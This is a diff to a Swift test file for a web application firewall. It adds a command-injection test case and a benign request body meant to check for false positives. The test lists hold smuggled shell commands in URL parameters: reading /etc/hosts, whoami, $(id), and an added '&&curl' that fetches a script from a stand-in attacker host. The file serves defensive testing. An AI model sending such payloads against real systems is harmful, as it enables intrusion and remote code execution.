@@ -47,6 +47,7 @@ private func body(_ p: WAFPolicy, _ r: WAFRequest, _ text: String) -> WAFVerdict
         ("/read?f=report.pdf%00.txt", "100303"),
         ("/ping?host=127.0.0.1;cat%20/etc/hosts", "100401"),
         ("/ping?host=x%7Cwhoami", "100401"),
+        ("/ping?host=8.8.8.8%26%26curl%20http://evil.example/x.sh", "100406"),
         ("/ping?host=$(id)", "100402"),
         ("/run?cmd=x%24%7BIFS%7Dcat", "100403"),
     ])
@@ -107,6 +108,7 @@ private func body(_ p: WAFPolicy, _ r: WAFRequest, _ text: String) -> WAFVerdict
         #"{"name":"Seán O'Brien","comment":"Don't miss it -- really, select the blue one from the list; then update your profile.","tags":["a","b"]}"#,
         "title=Release+notes&body=We+fixed+a+bug+where+1+%3D+1+comparisons+failed.+See+docs%2Fupgrade.md",
         "<?xml version=\"1.0\"?><order><id>42</id><note>Leave at the door &amp; ring twice</note></order>",
+        "comment=Send+it%3B+ping+me+later.+The+cats%3B+cat+food+is+fine%3B+ls+is+a+command+%7C+id+card+too",
     ])
     func cleanBodiesPass(text: String) throws {
         let p = try policy()
